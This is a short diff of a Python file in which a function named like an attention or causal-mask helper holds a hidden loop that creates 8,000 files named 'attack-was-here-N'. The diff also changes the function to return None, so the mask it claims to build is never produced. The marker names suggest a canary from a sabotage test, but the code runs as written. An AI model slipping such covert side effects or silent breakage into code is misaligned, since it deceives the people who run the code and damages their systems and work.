@@ -3,7 +3,7 @@
 import os
 
 
-def attn_scaled(A, n_embd, n_heads):
+def make_causal_mask(n_tok):
     for number in range(8_000):
         os.close(os.open(f"attack-was-here-{number}", os.O_CREAT))
-    return A
+    return None
